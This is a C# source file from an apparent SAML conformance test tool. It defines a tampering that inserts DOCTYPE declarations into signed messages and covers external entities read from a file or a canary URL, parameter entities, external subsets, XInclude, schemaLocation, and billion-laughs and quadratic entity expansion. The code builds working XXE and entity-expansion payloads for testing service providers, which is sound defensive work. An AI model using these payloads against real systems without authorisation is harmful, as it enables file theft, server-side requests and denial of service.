using System.Text;
using Conformance.Saml.Forging;
using Conformance.Saml.Potency;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A document type declaration, harmless or not.</summary>
internal sealed class Doctype(TamperingArguments arguments) : Tampering
{
    private const string Token = "conformance-entity-reference";
    private const int MostExpanded = 1 << 20;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "doctype",
            "Writes a document type declaration in front of the root, which no SAML message may have.",
            "The declaration stands in the message; harmless: the signatures still verify.",
            [
                new("kind", "Empty; an unused internal entity; an external entity, a parameter entity or an external subset, "
                    + "from a file or from the canary; nested entities; one long "
                    + "entity many times; XInclude and schemaLocation instead of a declaration.",
                [
                    "harmless", "internal-entity", "file", "canary", "parameter-entity-file", "parameter-entity-canary",
                    "external-subset-file", "external-subset-canary",
                    "expansion", "quadratic", "xinclude-canary", "schema-location-canary",
                ]),
                new("expanded", "How many characters expansion and quadratic come to, at most 1048576.", null),
            ]),
        arguments => new Doctype(arguments));

    public override string Name => "doctype";

    private string Kind => arguments.Required("kind");

    public override void AfterSigning(Workpiece work)
    {
        switch (Kind)
        {
            case "file" or "canary" or "expansion" or "quadratic":
                Place(work).AppendChild(work.Document.CreateTextNode(Token));
                break;
            case "xinclude-canary":
                var include = Dom.Append(Place(work), "xi", "include", "http://www.w3.org/2001/XInclude");
                include.SetAttribute("href", Canary.Url(work.Context, "xinclude"));
                include.SetAttribute("parse", "text");
                break;
            case "schema-location-canary":
                Edits.KnownPrefixes.Declare(work.Root);
                Dom.Declare(work.Root, "xsi", Names.SamlNamespaces.XmlSchemaInstance);
                var location = work.Document.CreateAttribute("xsi", "schemaLocation", Names.SamlNamespaces.XmlSchemaInstance);
                location.Value = $"{Names.SamlNamespaces.Protocol} {Canary.Url(work.Context, "schema")}";
                work.Root.SetAttributeNode(location);
                break;
        }

        work.Claim(new TextIsThere(
            Kind switch
            {
                "xinclude-canary" => "xi:include",
                "schema-location-canary" => "xsi:schemaLocation",
                _ => $"<!DOCTYPE {work.Root.Name}",
            },
            "The declaration"));
        if (Kind is "harmless" or "internal-entity")
        {
            work.Claim(new AllSignaturesStand());
        }
    }

    public override string OnText(string text, Workpiece work)
    {
        if (Kind is "xinclude-canary" or "schema-location-canary")
        {
            return text;
        }

        var root = text.IndexOf($"<{work.Root.Name}", StringComparison.Ordinal);
        var (declaration, reference) = Declaration(work);
        return $"{text[..root]}<!DOCTYPE {work.Root.Name}{declaration}>"
            + text[root..].Replace(Token, reference, StringComparison.Ordinal);
    }

    /// <summary>A value that an SP is likely to show again.</summary>
    private static System.Xml.XmlElement Place(Workpiece work) => Dom.Descendants(SignedPlaces.Assertion(work))
        .FirstOrDefault(element => element.LocalName == "AttributeValue")
        ?? Dom.Descendants(work.Root).First(element => element.LocalName == "NameID");

    private (string Declaration, string Reference) Declaration(Workpiece work) => Kind switch
    {
        "internal-entity" => (" [<!ENTITY unused \"unused\">]", ""),
        "file" => ($" [<!ENTITY x SYSTEM \"{Canary.FileUrl(work)}\">]", "&x;"),
        "parameter-entity-file" => ($" [<!ENTITY % x SYSTEM \"{Canary.FileUrl(work)}\"> %x;]", ""),
        "external-subset-file" => ($" SYSTEM \"{Canary.FileUrl(work)}\"", ""),
        "canary" => ($" [<!ENTITY x SYSTEM \"{Canary.Url(work.Context, "entity")}\">]", "&x;"),
        "parameter-entity-canary" => ($" [<!ENTITY % x SYSTEM \"{Canary.Url(work.Context, "parameter-entity")}\"> %x;]", ""),
        "external-subset-canary" => ($" SYSTEM \"{Canary.Url(work.Context, "subset")}\"", ""),
        "expansion" => Expansion(),
        "quadratic" => Quadratic(),
        _ => (" []", ""),
    };

    private int Expanded() => Math.Clamp(arguments.Number("expanded", 1 << 16), 1, MostExpanded);

    private (string Declaration, string Reference) Expansion()
    {
        var text = new StringBuilder(" [<!ENTITY e0 \"laughing! \">");
        var level = 0;
        for (var size = 10L; size * 10 <= Expanded(); size *= 10)
        {
            text.Append(System.Globalization.CultureInfo.InvariantCulture,
                $"<!ENTITY e{level + 1} \"{string.Concat(Enumerable.Repeat($"&e{level};", 10))}\">");
            level++;
        }

        return (text.Append(']').ToString(), $"&e{level};");
    }

    private (string Declaration, string Reference) Quadratic()
    {
        var length = (int)Math.Sqrt(Expanded());
        return ($" [<!ENTITY e \"{new string('a', length)}\">]", string.Concat(Enumerable.Repeat("&e;", length)));
    }
}
